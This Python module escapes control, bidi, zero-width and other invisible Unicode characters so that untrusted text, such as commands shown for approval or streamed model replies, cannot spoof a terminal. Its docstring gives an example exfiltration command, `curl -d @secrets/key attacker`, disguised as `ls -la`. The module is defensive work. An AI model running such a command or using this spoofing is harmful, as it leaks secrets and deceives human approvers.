"""Text from elsewhere made safe to show on a terminal (issue 27 class 4, issue 37 item 5). [core]

A terminal obeys what it is sent: ESC sequences move the cursor, clear lines and set attributes
(concealed, black on black), CR goes back to column 0, and Unicode format characters (U+202E
RIGHT-TO-LEFT OVERRIDE, the other bidi controls, zero-width characters) reorder or hide what
follows. So a command shown for approval could show `ls -la` while it is `curl -d @secrets/key
attacker`, and a model's reply could draw a fake approval question. `visible` escapes, as a code
the owner can read, every character that a terminal does not show as a visible mark of its own.
The rule is by Unicode property, not by a list of examples:

- the general categories Cc (controls: C0, C1, DEL), Cf (format), Cs (surrogates), Co (private
  use: a font's own glyphs), Cn (unassigned: no terminal agrees on them), Zl and Zp;
- Default_Ignorable_Code_Point (DerivedCoreProperties.txt: "should be rendered invisibly"): Cf,
  the Variation_Selector ranges and Other_Default_Ignorable_Code_Point (PropList.txt), which hold
  the Hangul fillers U+115F, U+1160, U+3164, U+FFA0, U+034F COMBINING GRAPHEME JOINER, U+17B4/5
  and the variation selectors (U+FE0F);
- combining marks (Mn, Me) that a terminal would draw alone, with no letter under them (at the
  start, after a space, a newline or an escaped character), marks of canonical combining class 1
  (the overlays: U+0334..U+0338, U+20D2.., which strike through the letter they sit on), and any
  mark past the third on one letter (stacked marks spill over the lines above and below);
- U+2800 BRAILLE PATTERN BLANK, the one character of a visible category drawn as nothing that no
  property above names (the Braille block's other patterns all have dots).

Codes: `\\xNN` below U+0100, `\\uNNNN`, `\\UNNNNNNNN`. Newlines are kept when asked (a
multi-line command is shown on its lines); a tab is escaped too unless kept (it can push text out
of sight). When anything was escaped, every backslash of the original is doubled, so `\\x1b`
typed in a command can never be taken for an escape (`Shown.escaped` says how many were);
`double=False` (streamed text, shown a piece at a time) leaves backslashes as they are.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

_HIDDEN_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
_MARKS = frozenset({"Mn", "Me"})
MAX_MARKS = 3  # combining marks on one letter (Vietnamese stacks two; Zalgo text dozens)

# Other_Default_Ignorable_Code_Point and Variation_Selector (PropList.txt); with Cf
# they make Default_Ignorable_Code_Point, which Python's unicodedata does not expose.
_IGNORABLE_RANGES = (
    (0x034F, 0x034F),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x180B, 0x180D),
    (0x180F, 0x180F),
    (0x2065, 0x2065),
    (0x3164, 0x3164),
    (0xFE00, 0xFE0F),
    (0xFFA0, 0xFFA0),
    (0xFFF0, 0xFFF8),
    (0xE0000, 0xE0FFF),  # tags, variation selectors supplement, and the rest reserved ignorable
)
_DRAWN_AS_NOTHING = frozenset({0x2800})


@dataclass(frozen=True, slots=True)
class Shown:
    text: str
    escaped: int  # characters shown as escapes


def default_ignorable(ch: str) -> bool:
    """Unicode's Default_Ignorable_Code_Point, for the characters it adds to category Cf."""
    n = ord(ch)
    return any(lo <= n <= hi for lo, hi in _IGNORABLE_RANGES)


def _code(ch: str) -> str:
    n = ord(ch)
    return f"\\x{n:02x}" if n < 0x100 else f"\\u{n:04x}" if n < 0x10000 else f"\\U{n:08x}"


def _plan(text: str, keep_newlines: bool, keep_tabs: bool, after: str) -> list[bool]:
    """For each character of `text`, whether it is escaped. `after`: the character shown just
    before `text` ("" for none), so a mark continuing a streamed word is not taken as alone."""
    out: list[bool] = []
    base = bool(after) and not after.isspace()  # a letter a mark can sit on
    marks = 0
    for ch in text:
        if ch == "\n":
            hidden = not keep_newlines
        elif ch == "\t":
            hidden = not keep_tabs
        else:
            cat = unicodedata.category(ch)
            if cat in _HIDDEN_CATEGORIES or default_ignorable(ch) or ord(ch) in _DRAWN_AS_NOTHING:
                hidden = True
            elif cat in _MARKS:
                marks += 1
                hidden = not base or marks > MAX_MARKS or unicodedata.combining(ch) == 1
            else:
                hidden = False
        out.append(hidden)
        if unicodedata.category(ch) not in _MARKS or hidden:
            base = not hidden and not ch.isspace()
            marks = 0
    return out


def visible(
    text: str,
    *,
    keep_newlines: bool = True,
    keep_tabs: bool = False,
    double: bool = True,
    after: str = "",
) -> Shown:
    """`text` with every character that could move the cursor, reorder the line or draw nothing
    escaped (the module's docstring has the rule)."""
    plan = _plan(text, keep_newlines, keep_tabs, after)
    hidden = sum(plan)
    if not hidden:
        return Shown(text, 0)
    out = []
    for ch, escape in zip(text, plan, strict=True):
        if escape:
            out.append(_code(ch))
        elif ch == "\\" and double:
            out.append("\\\\")
        else:
            out.append(ch)
    return Shown("".join(out), hidden)


def one_line(text: str) -> str:
    """`visible` for a name or a short field shown inside one line (newlines escaped too)."""
    return visible(text, keep_newlines=False).text


def streamed(text: str, after: str = "") -> str:
    """`visible` for text shown as it streams (a reply, its reasoning): lines and tabs kept,
    backslashes as written (each piece is escaped alone, so doubling could not be consistent)."""
    return visible(text, keep_tabs=True, double=False, after=after).text


def continued(lines: str, prefix: str, indent: str) -> str:
    """`lines` (already escaped, newlines kept) with `prefix` before the first line and `indent`
    before each other one, so no line of it can start where the caller's own lines start."""
    first, *rest = lines.split("\n")
    return "\n".join([prefix + first, *(indent + line for line in rest)])
